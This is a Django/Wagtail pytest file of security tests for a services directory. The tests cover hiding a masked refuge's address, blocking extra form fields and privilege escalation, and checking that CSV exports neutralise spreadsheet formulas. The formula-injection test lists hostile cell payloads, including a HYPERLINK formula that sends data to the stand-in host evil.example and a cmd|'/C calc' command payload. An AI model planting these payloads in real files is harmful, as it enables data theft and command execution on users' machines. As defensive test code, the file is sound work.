"""A nosy provider and a careless export: what somebody who may edit one entry tries beyond it."""

import csv
from collections.abc import Callable

import pytest
from django.test import Client
from django.urls import reverse

from localoffer.models import Address, Place, Service, ServiceAtPlace
from tests.integration.directory_people import Area, make_service
from tests.integration.forms_as_sent import form_data
from tests.people_factories import sign_in_fully

pytestmark = pytest.mark.django_db

SECRET = "Hawthorn Refuge"
STREET = "14 Hidden Lane"


@pytest.fixture
def refuge(area: Area) -> Place:
    place = Place.objects.create(name=SECRET, is_masked=True, latitude=53.0123, longitude=-0.9123)
    Address.objects.create(
        place=place,
        address_1=STREET,
        city="Thornby",
        state_province="Larkshire",
        postal_code="ZZ4 9QX",
    )
    return place


def services(name: str, *args: object) -> str:
    return reverse(f"wagtailsnippets_localoffer_service:{name}", args=args)


def _sent(client: Client, service: Service, **changes: object) -> dict[str, object]:
    page = client.get(services("edit", service.pk)).content.decode()
    return form_data(page, "form[data-edit-form]", **changes)


def _with_place(data: dict[str, object], place: Place) -> dict[str, object]:
    return {
        **data,
        "service_places-TOTAL_FORMS": "1",
        "service_places-INITIAL_FORMS": "0",
        "service_places-0-id": "",
        "service_places-0-ORDER": "1",
        "service_places-0-DELETE": "",
        "service_places-0-place": str(place.pk),
        "service_places-0-description": "",
    }


def test_provider_cannot_put_a_secret_place_into_own_entry_to_read_its_name(
    client: Client, area: Area, refuge: Place
) -> None:
    sign_in_fully(client, area.member)
    data = _with_place(_sent(client, area.own), refuge)

    answer = client.post(services("edit", area.own.pk), data, follow=True)

    seen = answer.content.decode() + client.get(services("edit", area.own.pk)).content.decode()
    assert SECRET not in seen
    assert STREET not in seen
    draft = Service.objects.get(pk=area.own.pk).get_latest_revision_as_object()
    assert [row.place_id for row in draft.service_places.all()] == []


def test_provider_cannot_put_a_secret_place_into_a_time_to_read_its_name(
    client: Client, area: Area, refuge: Place
) -> None:
    sign_in_fully(client, area.member)
    data = _sent(client, area.own) | {"schedules-0-place": str(refuge.pk)}

    answer = client.post(services("edit", area.own.pk), data, follow=True)

    seen = answer.content.decode() + client.get(services("edit", area.own.pk)).content.decode()
    assert SECRET not in seen
    draft = Service.objects.get(pk=area.own.pk).get_latest_revision_as_object()
    assert {row.place_id for row in draft.schedules.all()} == {None}


def test_provider_of_a_refuge_can_still_edit_its_own_entry(client: Client, area: Area, refuge: Place) -> None:
    service = area.own
    service.service_places.add(ServiceAtPlace(place=refuge))
    service.save()
    service.save_revision().publish()
    sign_in_fully(client, area.member)

    client.post(services("edit", service.pk), _sent(client, service, summary="A safe place to stay."))

    draft = Service.objects.get(pk=service.pk).get_latest_revision_as_object()
    assert draft.summary == "A safe place to stay."
    assert [row.place_id for row in draft.service_places.all()] == [refuge.pk]


def test_editor_can_put_a_secret_place_into_an_entry(client: Client, area: Area, refuge: Place) -> None:
    sign_in_fully(client, area.editor)

    client.post(services("edit", area.own.pk), _with_place(_sent(client, area.own), refuge))

    draft = Service.objects.get(pk=area.own.pk).get_latest_revision_as_object()
    assert [row.place_id for row in draft.service_places.all()] == [refuge.pk]


def test_provider_cannot_change_what_belongs_to_the_entry_by_adding_boxes(client: Client, area: Area) -> None:
    sign_in_fully(client, area.member)
    before = {name: getattr(area.own, name) for name in ("live", "status", "slug", "uuid", "assured_date")}
    extra = {
        "live": "false",
        "status": "defunct",
        "slug": "stolen",
        "uuid": "00000000-0000-4000-8000-000000000000",
        "assured_date": "2030-01-01",
        "assured_by_role": "the council",
        "responsible": "Nobody",
        "provider": str(area.other_provider.pk),
        "locked": "true",
        "action-publish": "1",
        "go_live_at": "2020-01-01 00:00",
    }

    client.post(services("edit", area.own.pk), _sent(client, area.own, name="Changed by hand", **extra))

    after = Service.objects.get(pk=area.own.pk)
    draft = after.get_latest_revision_as_object()
    assert {name: getattr(after, name) for name in before} == before
    assert after.name == area.own.name
    assert (draft.name, draft.provider_id) == ("Changed by hand", area.own_provider.pk)
    assert (draft.assured_by_role, draft.responsible) == (area.own.assured_by_role, area.own.responsible)


def test_provider_cannot_become_somebody_else_on_the_account_page(client: Client, area: Area) -> None:
    sign_in_fully(client, area.member)
    page = client.get(reverse("wagtailadmin_account")).content.decode()
    extra = {"name_email-post": "Director", "name_email-is_superuser": "on", "name_email-groups": "1"}
    names = {"name_email-first_name": "Pat", "name_email-last_name": "Lark"}

    client.post(reverse("wagtailadmin_account"), form_data(page, "main form", **names, **extra))

    area.member.refresh_from_db()
    assert (area.member.post, area.member.is_superuser) == ("", False)
    assert [group.name for group in area.member.groups.order_by("pk")] == ["Providers"]


FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1)', "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1")


def _exported(client: Client, address: str) -> list[str]:
    answer = client.get(address)
    assert answer.status_code == 200
    return b"".join(answer.streaming_content).decode().splitlines()


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize(
    "page",
    [
        lambda: services("list"),
        lambda: reverse("wagtailadmin_reports:site_history"),
        lambda: reverse("wagtailadmin_reports:workflow"),
        lambda: reverse("wagtailadmin_reports:workflow_tasks"),
    ],
    ids=["services", "history", "workflows", "tasks"],
)
def test_downloaded_table_runs_no_formula(
    client: Client, area: Area, page: Callable[[], str], formula: str
) -> None:
    service = make_service(area.own_provider, formula, slug="formula")
    workflow = service.get_workflow()
    workflow.start(service, area.member)
    area.own_provider.name = formula
    area.own_provider.save()
    area.editor.is_superuser = True
    area.editor.save()
    sign_in_fully(client, area.editor)

    lines = _exported(client, f"{page()}?export=csv")

    cells = [cell for line in csv.reader(lines) for cell in line]
    assert any(formula in cell for cell in cells)
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))] == []
